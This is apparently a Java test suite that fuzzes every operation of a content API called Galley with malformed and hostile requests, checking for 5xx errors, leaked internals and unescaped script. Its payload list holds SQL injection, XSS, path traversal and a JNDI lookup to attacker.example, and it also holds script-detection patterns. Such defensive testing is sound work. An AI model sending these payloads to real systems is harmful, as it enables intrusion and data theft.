package galley.requests.boundary;

import galley.testing.Api;
import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonArrayBuilder;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import jakarta.json.JsonString;
import jakarta.json.JsonValue;
import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Function;
import java.util.regex.Pattern;

/**
 * Malformed and hostile requests to every operation of Galley's {@code /openapi} document: wrong types,
 * missing and unknown fields, huge strings and arrays, deep nesting, invalid UTF-8, bodies that are not
 * JSON or not of the documented media type, SQL and HTML injection strings, path traversal and Unicode edge
 * cases in path and query parameters. Every request is built to be refused (each carries at least one fault
 * the API must reject), sent as the admin (so validation, not the access check, answers) and anonymously.
 * Each answer is checked: never 5xx, every error a problem+json body with its status and request id and no
 * server internals, HTML fields free of scripts. The test suite runs a bounded sample; the benchmark
 * command runs more.
 */
public final class BadInputSuite {

    /** Strings attackers and unlucky users send. */
    static final List<String> HOSTILE = List.of(
            "' OR '1'='1' --", "'; DROP TABLE article; --", "1 UNION SELECT username, password_hash FROM galley_user",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
            "\"><svg onload=alert(1)>", "../../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fpasswd", "..\\..\\windows\\win.ini",
            "${jndi:ldap://attacker.example/a}", "{{7*7}}", "%00", "\u0000", "İstanbul'da ılık bir gün: IIİı",
            "Учения ОДКБ в Казахстане", "e\u0301\u0301\u0301\u0301", "\uFEFF\u200B\u202Eevil", "😀".repeat(40),
            "\uD800", "a".repeat(5_000));

    /** Raw bodies that are not the JSON an operation takes. */
    private static final List<String> NOT_JSON = List.of("", "{", "}", "null", "[]", "\"text\"", "12", "{\"a\":}", "{'single':'quotes'}",
            "<xml/>", "{\"a\":1}{\"b\":2}", "{\"a\":NaN}", "\u0000{}");

    /** What a leaked server internal looks like. */
    private static final Pattern INTERNALS = Pattern.compile(
            "Exception|\\bat [a-z]+(\\.[a-zA-Z0-9_$]+)+\\(|\\.java:\\d+|org\\.hibernate|org\\.h2\\.|org\\.postgresql|SQLState|"
                    + "jakarta\\.(ws|persistence|json)|java\\.lang|Caused by", Pattern.CASE_INSENSITIVE);
    private static final Pattern SCRIPT = Pattern.compile("<script|\\son[a-z]+\\s*=|javascript:|<iframe|<object|<embed|expression\\(",
            Pattern.CASE_INSENSITIVE);

    /** One operation of the document. */
    record Operation(String method, String path, List<JsonObject> parameters, JsonObject bodySchema, String bodyType, boolean bodyRequired) {
        boolean admin() {
            return path.startsWith("/api/admin");
        }
    }

    /** Totals of a run. */
    public static final class Results {
        public final Map<String, Integer> sentByKind = new TreeMap<>();
        public final Map<Integer, Integer> byStatus = new TreeMap<>();
        public final List<String> failures = new ArrayList<>();
        public int serverErrors;
        /** Malformed URLs the HTTP server itself refused (empty 400s, before Galley). */
        public int refusedByServer;

        public int sent() {
            return sentByKind.values().stream().mapToInt(Integer::intValue).sum();
        }

        @Override
        public String toString() {
            return "sent " + sent() + " by kind " + sentByKind + "; statuses " + byStatus + "; 5xx " + serverErrors
                    + "; malformed URLs refused by the HTTP server " + refusedByServer
                    + "; failures " + failures.size() + (failures.isEmpty() ? "" : ": " + failures.subList(0, Math.min(20, failures.size())));
        }
    }

    private final Api admin;
    private final Api anonymous;
    private final JsonObject document;
    private final Map<String, JsonObject> schemas;
    private final Random random;
    private final List<String> hostile;
    private final Map<String, String> realIds = new LinkedHashMap<>();
    private final Results results = new Results();

    /**
     * @param admin     signed in as an admin
     * @param hostile   how many of the hostile strings to use per field (all of them for a long run)
     */
    public BadInputSuite(Api admin, Api anonymous, long seed, int hostile) {
        this.admin = admin;
        this.anonymous = anonymous;
        this.random = new Random(seed);
        List<String> shuffled = new ArrayList<>(HOSTILE);
        java.util.Collections.shuffle(shuffled, random);
        this.hostile = shuffled.subList(0, Math.min(hostile, shuffled.size()));
        this.document = admin.get("openapi?format=JSON", "Accept", "application/json").expect(200).json();
        this.schemas = new LinkedHashMap<>();
        document.getJsonObject("components").getJsonObject("schemas").forEach((k, v) -> schemas.put(k, v.asJsonObject()));
    }

    /** Remembers existing items, so bodies reach validation at real paths. */
    public BadInputSuite withRealIds(Map<String, String> idsByCollection) {
        realIds.putAll(idsByCollection);
        return this;
    }

    public List<Operation> operations() {
        List<Operation> operations = new ArrayList<>();
        document.getJsonObject("paths").forEach((path, item) -> item.asJsonObject().forEach((method, value) -> {
            if (!List.of("get", "put", "post", "delete", "patch").contains(method)) return;
            JsonObject op = value.asJsonObject();
            List<JsonObject> parameters = op.containsKey("parameters")
                    ? op.getJsonArray("parameters").getValuesAs(JsonObject.class) : List.of();
            JsonObject schema = null;
            String type = null;
            boolean required = false;
            if (op.containsKey("requestBody")) {
                required = op.getJsonObject("requestBody").getBoolean("required", false);
                JsonObject content = op.getJsonObject("requestBody").getJsonObject("content");
                type = content.keySet().iterator().next();
                schema = resolve(content.getJsonObject(type).getJsonObject("schema"));
            }
            operations.add(new Operation(method.toUpperCase(), path, parameters, schema, type, required));
        }));
        return operations;
    }

    public Results run() {
        String only = System.getProperty("badinput.only");
        for (Operation op : operations()) {
            if (only != null && !op.path().equals(only)) continue;
            pathParameters(op);
            queryParameters(op);
            headers(op);
            if (op.bodySchema() != null) bodies(op);
        }
        return results;
    }

    // --- kinds of bad input ---

    private void pathParameters(Operation op) {
        if (!op.path().contains("{")) return;
        List<String> values = new ArrayList<>();
        for (String h : hostile) values.add(encode(h));
        values.addAll(List.of("%FF%FE", "%C3%28", "..%2F..%2Fopenapi", "%2e%2e", "x".repeat(3000), "-1", "0", "99999999999999999999"));
        for (String value : values) {
            String path = op.path().replaceAll("\\{[^}]+}", java.util.regex.Matcher.quoteReplacement(value)).substring(1);
            send("path parameter", op, op.admin() ? admin : anonymous, op.method(), path, null, op.bodyType());
            if (op.admin() && random.nextInt(4) == 0) send("anonymous", op, anonymous, op.method(), path, null, op.bodyType());
        }
    }

    private void queryParameters(Operation op) {
        for (JsonObject parameter : op.parameters()) {
            if (!"query".equals(parameter.getString("in"))) continue;
            String name = parameter.getString("name");
            List<String> values = new ArrayList<>(hostile);
            values.addAll(List.of("-1", "0", "1e9", "NaN", "99999999999999999999", "true", "", " ", "\uD83D"));
            for (String value : values) {
                String path = concrete(op) + "?" + name + "=" + encode(value) + (random.nextBoolean() ? "&" + name + "=again" : "");
                // Bodies of such requests are valid shapes only for reads; writes get a malformed one.
                byte[] body = op.bodySchema() == null ? null : "{\"unknownField\":true}".getBytes(StandardCharsets.UTF_8);
                send("query parameter", op, op.admin() ? admin : anonymous, op.method(), path, body, op.bodyType());
            }
        }
    }

    private void headers(Operation op) {
        String path = concrete(op);
        byte[] body = op.bodySchema() == null ? null : "{\"unknownField\":true}".getBytes(StandardCharsets.UTF_8);
        send("unacceptable Accept", op, op.admin() ? admin : anonymous, op.method(), path, body, op.bodyType(), "Accept", "application/xml");
        send("hostile header", op, op.admin() ? admin : anonymous, op.method(), path, body, op.bodyType(),
                "Accept-Language", "'; DROP TABLE article; --", "If-None-Match", "\"" + "9".repeat(300) + "\"",
                "X-Request-Id", "<script>alert(1)</script>");
        if (op.bodySchema() != null) {
            send("wrong content type", op, admin, op.method(), path, "title=x".getBytes(StandardCharsets.UTF_8), "application/x-www-form-urlencoded");
            send("wrong content type", op, admin, op.method(), path, "<a/>".getBytes(StandardCharsets.UTF_8), "application/xml");
        }
    }

    private void bodies(Operation op) {
        String path = concrete(op);
        Function<String, byte[]> utf8 = s -> s.getBytes(StandardCharsets.UTF_8);
        for (String raw : NOT_JSON) {
            // An optional body may be left out: "" and null are then fine.
            if (!op.bodyRequired() && (raw.isEmpty() || raw.equals("null"))) continue;
            send("not JSON", op, admin, op.method(), path, utf8.apply(raw), op.bodyType());
        }
        JsonObject valid = sample(op.bodySchema(), 0);
        JsonObject properties = op.bodySchema().getJsonObject("properties");
        List<String> required = op.bodySchema().containsKey("required")
                ? op.bodySchema().getJsonArray("required").getValuesAs(JsonString.class).stream().map(JsonString::getString).toList() : List.of();
        // A merge patch leaves out what it does not change: nothing is required there.
        if (!required.isEmpty() && !op.bodyType().contains("merge-patch")) {
            send("missing required fields", op, admin, op.method(), path, utf8.apply("{}"), op.bodyType());
            for (String field : required) {
                JsonObjectBuilder without = Json.createObjectBuilder(valid);
                without.remove(field);
                withHostileStrings(without, properties, field);
                send("missing required fields", op, admin, op.method(), path, utf8.apply(without.build().toString()), op.bodyType());
            }
        }
        send("unknown field", op, admin, op.method(), path, utf8.apply(Json.createObjectBuilder(valid).add("isAdmin", true)
                .add("__proto__", Json.createObjectBuilder().add("polluted", true)).build().toString()), op.bodyType());
        if (properties == null) return;
        for (String field : properties.keySet()) {
            JsonObject schema = resolve(properties.getJsonObject(field));
            for (JsonValue wrong : wrongTypes(schema)) {
                JsonObjectBuilder body = Json.createObjectBuilder(valid).add(field, wrong);
                send("wrong type", op, admin, op.method(), path, utf8.apply(body.build().toString()), op.bodyType());
            }
            // Every hostile string in a field, with one more fault so the request stays refused.
            for (String h : hostile) {
                JsonObjectBuilder body = Json.createObjectBuilder(valid).add(field, h).add("unexpected", h);
                send("injection string", op, admin, op.method(), path, utf8.apply(body.build().toString()), op.bodyType());
            }
            String type = schema.getString("type", "object");
            if (type.equals("string") && !schema.containsKey("enum")) {
                int max = schema.containsKey("maxLength") ? schema.getInt("maxLength") : 10_000;
                send("huge string", op, admin, op.method(), path,
                        utf8.apply(Json.createObjectBuilder(valid).add(field, "ş".repeat(max + 1)).build().toString()), op.bodyType());
                send("huge string", op, admin, op.method(), path,
                        utf8.apply(Json.createObjectBuilder(valid).add(field, "x".repeat(2_000_000)).build().toString()), op.bodyType());
                byte[] invalid = invalidUtf8(Json.createObjectBuilder(valid).add(field, "@@@").build().toString());
                send("invalid UTF-8", op, admin, op.method(), path, invalid, op.bodyType());
            }
            if (type.equals("array")) {
                JsonArrayBuilder huge = Json.createArrayBuilder();
                JsonValue item = schema.containsKey("items") ? sampleValue(resolve(schema.getJsonObject("items")), 1) : Json.createValue("x");
                for (int i = 0; i < 20_000; i++) huge.add(item);
                send("huge array", op, admin, op.method(), path, utf8.apply(Json.createObjectBuilder(valid).add(field, huge).build().toString()), op.bodyType());
            }
            String deep = "[".repeat(5_000) + "]".repeat(5_000);
            String nested = Json.createObjectBuilder(valid).add(field, "DEEP").build().toString().replace("\"DEEP\"", deep);
            send("deep nesting", op, admin, op.method(), path, utf8.apply(nested), op.bodyType());
        }
    }

    private void withHostileStrings(JsonObjectBuilder body, JsonObject properties, String except) {
        if (properties == null) return;
        for (String field : properties.keySet()) {
            if (field.equals(except)) continue;
            JsonObject schema = resolve(properties.getJsonObject(field));
            if ("string".equals(schema.getString("type", "")) && !schema.containsKey("enum") && !schema.containsKey("format")) {
                body.add(field, hostile.get(random.nextInt(hostile.size())));
            }
        }
    }

    // --- sending and checking ---

    private void send(String kind, Operation op, Api as, String method, String path, byte[] body, String type, String... headers) {
        List<String> all = new ArrayList<>(List.of(headers));
        if (op.admin() && as == admin && (method.equals("PUT") || method.equals("PATCH") || method.equals("DELETE"))) {
            all.addAll(List.of("If-Match", "\"" + random.nextInt(5) + "\""));
        }
        Api.Reply reply;
        try {
            reply = sendOnce(as, method, path, body, type, all);
        } catch (IllegalArgumentException e) {
            return; // a path the HTTP client itself refuses to send: nobody can send it
        } catch (java.io.UncheckedIOException e) {
            // A kept-alive connection the server had just closed (after a 413, say): once more, on a new one.
            try {
                reply = sendOnce(as, method, path, body, type, all);
            } catch (RuntimeException again) {
                results.failures.add(kind + " " + method + " /" + abbreviate(path, 80) + ": no answer (" + again + ")");
                return;
            }
        } catch (RuntimeException e) {
            results.failures.add(kind + " " + method + " /" + abbreviate(path, 80) + ": no answer (" + e + ")");
            return;
        }
        results.sentByKind.merge(kind, 1, Integer::sum);
        results.byStatus.merge(reply.status(), 1, Integer::sum);
        if (reply.status() == 400 && reply.header("X-Request-Id") == null && malformedUrl(path)) {
            // A URL that is not percent-encoded UTF-8, holds NUL or an encoded slash: the HTTP server refuses
            // it before any application code runs, with an empty 400. Counted apart; Galley never sees it.
            results.refusedByServer++;
            return;
        }
        String where = kind + " " + method + " /" + abbreviate(path, 80) + " -> " + reply.status();
        if (reply.status() >= 500) {
            results.serverErrors++;
            results.failures.add(where + ": " + abbreviate(reply.body()));
            return;
        }
        if (reply.status() >= 400) {
            String contentType = reply.contentType();
            if (contentType == null || !contentType.startsWith("application/problem+json")) {
                results.failures.add(where + ": not problem+json but " + contentType);
            } else {
                try (var reader = Json.createReader(new StringReader(reply.body()))) {
                    JsonObject problem = reader.readObject();
                    if (problem.getInt("status", -1) != reply.status()) results.failures.add(where + ": problem status " + problem);
                    if (!problem.containsKey("requestId")) results.failures.add(where + ": no requestId");
                } catch (RuntimeException e) {
                    results.failures.add(where + ": unreadable problem " + abbreviate(reply.body()));
                }
            }
            if (reply.header("X-Request-Id") == null) results.failures.add(where + ": no X-Request-Id");
        } else if (reply.status() < 300 && !method.equals("GET")) {
            // Every write here carries a fault: accepting one is a finding.
            results.failures.add(where + ": a malformed " + method + " was accepted: "
                    + abbreviate(body == null ? "" : new String(body, StandardCharsets.UTF_8)));
        }
        if (INTERNALS.matcher(reply.body()).find()) results.failures.add(where + ": server internals in " + abbreviate(reply.body()));
        if (reply.status() < 300 && reply.body().startsWith("{")) checkHtml(where, reply.json(), !op.admin());
    }

    private static Api.Reply sendOnce(Api as, String method, String path, byte[] body, String type, List<String> headers) {
        return as.sendBytes(method, path, body, body == null ? null : type, headers.toArray(String[]::new));
    }

    /** HTML a front end would render (a public article's body, search highlights) must carry no script. */
    private void checkHtml(String where, JsonValue value, boolean publicApi) {
        if (value instanceof JsonObject o) {
            o.forEach((k, v) -> {
                boolean html = k.endsWith("Html") || k.equals("highlights") || k.equals("fragments") || (publicApi && k.equals("body"));
                if (html && SCRIPT.matcher(v.toString()).find()) {
                    results.failures.add(where + ": script in " + k + ": " + abbreviate(v.toString()));
                }
                checkHtml(where, v, publicApi);
            });
        } else if (value instanceof JsonArray a) {
            a.forEach(v -> checkHtml(where, v, publicApi));
        }
    }

    // --- building requests ---

    /**
     * The operation's path with real ids where it names an existing collection, else random ones. Only
     * reads and operations whose (always malformed) body is their whole input get real ids: a DELETE or
     * a bodiless POST such as publish at a real id would be a real action.
     */
    private String concrete(Operation op) {
        String path = op.path();
        boolean safe = op.method().equals("GET") || (op.bodySchema() != null && op.bodyRequired());
        for (Map.Entry<String, String> real : safe ? realIds.entrySet() : Map.<String, String>of().entrySet()) {
            path = path.replace("/" + real.getKey() + "/{id}", "/" + real.getKey() + "/" + real.getValue());
        }
        path = path.replace("{number}", "1");
        return path.replaceAll("\\{[^}]+}", java.util.UUID.randomUUID().toString()).substring(1);
    }

    private JsonObject resolve(JsonObject schema) {
        if (schema != null && schema.containsKey("$ref")) {
            String ref = schema.getString("$ref");
            return schemas.get(ref.substring(ref.lastIndexOf('/') + 1));
        }
        if (schema != null && schema.containsKey("allOf")) return resolve(schema.getJsonArray("allOf").getJsonObject(0));
        return schema;
    }

    private JsonObject sample(JsonObject schema, int depth) {
        JsonObjectBuilder object = Json.createObjectBuilder();
        JsonObject properties = schema == null ? null : schema.getJsonObject("properties");
        if (properties != null) properties.forEach((k, v) -> object.add(k, sampleValue(resolve(v.asJsonObject()), depth + 1)));
        return object.build();
    }

    private JsonValue sampleValue(JsonObject schema, int depth) {
        if (schema == null || depth > 4) return JsonValue.NULL;
        if (schema.containsKey("enum")) return schema.getJsonArray("enum").get(0);
        if (schema.containsKey("example") && !(schema.get("example") instanceof JsonObject)) return schema.get("example");
        return switch (schema.getString("type", "object")) {
            case "string" -> switch (schema.getString("format", "")) {
                case "uuid" -> Json.createValue(java.util.UUID.randomUUID().toString());
                case "date-time" -> Json.createValue("2030-01-01T00:00:00Z");
                case "date" -> Json.createValue("2026-01-01");
                case "uri" -> Json.createValue("https://example.org/a");
                default -> Json.createValue("Sample text");
            };
            case "integer", "number" -> Json.createValue(1);
            case "boolean" -> JsonValue.TRUE;
            case "array" -> Json.createArrayBuilder().add(sampleValue(resolve(schema.getJsonObject("items")), depth + 1)).build();
            default -> sample(schema, depth);
        };
    }

    private static List<JsonValue> wrongTypes(JsonObject schema) {
        String type = schema == null ? "object" : schema.getString("type", "object");
        List<JsonValue> wrong = new ArrayList<>();
        if (!type.equals("string")) wrong.add(Json.createValue("not a " + type));
        if (!type.equals("integer") && !type.equals("number")) wrong.add(Json.createValue(12345678901234567L));
        if (!type.equals("boolean")) wrong.add(JsonValue.FALSE);
        if (!type.equals("array")) wrong.add(Json.createArrayBuilder().add(1).add("two").build());
        if (!type.equals("object")) wrong.add(Json.createObjectBuilder().add("nested", "object").build());
        // Spaces make it invalid in every format (not-a-bcp47 would be a well-formed language tag).
        if (type.equals("string") && schema.containsKey("format")) wrong.add(Json.createValue("not a " + schema.getString("format") + "!"));
        if (type.equals("integer")) wrong.add(Json.createValue(1.5));
        return wrong;
    }

    private static byte[] invalidUtf8(String json) {
        byte[] bytes = json.getBytes(StandardCharsets.UTF_8);
        String s = new String(bytes, StandardCharsets.ISO_8859_1);
        int at = s.indexOf("@@@");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(bytes, 0, at);
        out.writeBytes(new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xED, (byte) 0xA0, (byte) 0x80});
        out.write(bytes, at + 3, bytes.length - at - 3);
        return out.toByteArray();
    }

    /**
     * Whether the URL is longer than the server reads, or its path holds NUL, an encoded slash or backslash,
     * or percent-encoded bytes that are not UTF-8.
     */
    static boolean malformedUrl(String path) {
        if (path.length() > 4096) return true; // longer than the HTTP server reads a request line
        String upper = path.toUpperCase(java.util.Locale.ROOT);
        if (upper.contains("%2F") || upper.contains("%5C")) return true;
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (int i = 0; i < path.length(); i++) {
            char c = path.charAt(i);
            if (c == '%' && i + 2 < path.length() + 0 && i + 2 <= path.length() - 1) {
                try {
                    bytes.write(Integer.parseInt(path.substring(i + 1, i + 3), 16));
                    i += 2;
                    continue;
                } catch (NumberFormatException e) {
                    return true;
                }
            }
            bytes.write(c);
        }
        byte[] raw = bytes.toByteArray();
        for (byte b : raw) if (b == 0) return true;
        try {
            StandardCharsets.UTF_8.newDecoder().decode(java.nio.ByteBuffer.wrap(raw));
            return false;
        } catch (java.nio.charset.CharacterCodingException e) {
            return true;
        }
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String s) {
        return abbreviate(s, 300);
    }

    private static String abbreviate(String s, int max) {
        return s.length() > max ? s.substring(0, max) + "..." : s;
    }

    // --- what is stored ---

    /** An item of each kind, so malformed bodies reach validation at real paths: ids by collection. */
    public static Map<String, String> createTargets(Api admin) {
        Map<String, String> ids = new LinkedHashMap<>();
        java.util.UUID author = galley.testing.Content.createAuthor(admin, galley.testing.Content.unique("Target Author"));
        ids.put("articles", galley.testing.Content.createArticle(admin,
                galley.testing.Content.article("en", galley.testing.Content.unique("Target Article"), author)).getString("id"));
        ids.put("authors", author.toString());
        ids.put("tags", admin.post("api/admin/tags", Json.createObjectBuilder().add("name", galley.testing.Content.unique("target tag")).build())
                .expect(201).json().getString("id"));
        ids.put("users", admin.post("api/admin/users", Json.createObjectBuilder().add("username", galley.testing.Content.unique("target-user"))
                .add("password", "target-password-" + java.util.UUID.randomUUID()).add("roles", Json.createArrayBuilder().add("author")).build())
                .expect(201).json().getString("id"));
        // Inactive: the suite's changes to content (if any got through) must not send anything anywhere.
        ids.put("webhooks", admin.post("api/admin/webhooks", Json.createObjectBuilder().add("url", "https://hooks.example.invalid/galley")
                .add("events", Json.createArrayBuilder().add("article.published")).add("active", false).build())
                .expect(201).json().getJsonObject("webhook").getString("id"));
        return ids;
    }

    /**
     * A digest of everything editors can change, read through the admin API: every article, author, tag,
     * user and token with its version or timestamps. Equal digests before and after: nothing was written.
     */
    public static String contentSnapshot(Api admin) {
        StringBuilder all = new StringBuilder();
        for (String collection : List.of("articles", "authors")) {
            for (int page = 1; ; page++) {
                JsonObject reply = admin.get("api/admin/" + collection + "?size=100&page=" + page).expect(200).json();
                for (JsonValue item : reply.getJsonArray("items")) {
                    JsonObject o = item.asJsonObject();
                    all.append(collection).append(o.getString("id")).append(':').append(o.get("version")).append(o.get("updatedAt")).append(o.get("status")).append('\n');
                }
                if (page >= reply.getInt("totalPages", 1)) break;
            }
        }
        all.append(admin.get("api/admin/tags").expect(200).body()).append('\n');
        all.append(admin.get("api/admin/users").expect(200).body()).append('\n');
        all.append(admin.get("api/admin/tokens").expect(200).body().replaceAll("\"lastUsedAt\":\"[^\"]*\",?", "")).append('\n');
        all.append(admin.get("api/admin/webhooks").expect(200).body()).append('\n');
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(all.toString().getBytes(StandardCharsets.UTF_8)));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    /** Tables editors' content lives in (computed similar-post lists are left out: the engine rewrites them). */
    private static final List<String> CONTENT_TABLES = List.of("article", "article_author", "article_tag", "article_reference",
            "article_slug_redirect", "author", "author_profile", "author_expertise", "author_education", "author_link", "tag",
            "similar_exclusion", "galley_user", "galley_user_role", "api_token", "galley_setting", "webhook_endpoint",
            "webhook_endpoint_event");

    /** A digest of every row of the content tables, read straight from PostgreSQL. */
    public static String databaseSnapshot(String jdbcUrl) {
        StringBuilder all = new StringBuilder();
        try (var connection = java.sql.DriverManager.getConnection(jdbcUrl, "postgres", "postgres");
             var statement = connection.createStatement()) {
            for (String table : CONTENT_TABLES) {
                String columns = table.equals("api_token") ? "id, name, scope, token_hash, expires_at, revoked_at, version" : "t::text";
                try (var rows = statement.executeQuery("select md5(coalesce(string_agg(r, '|' order by r), '')), count(*) from (select ("
                        + columns + ")::text as r from " + table + " t) x")) {
                    rows.next();
                    all.append(table).append(' ').append(rows.getString(1)).append(' ').append(rows.getLong(2)).append('\n');
                }
            }
        } catch (java.sql.SQLException e) {
            throw new IllegalStateException(e);
        }
        return all.toString();
    }
}
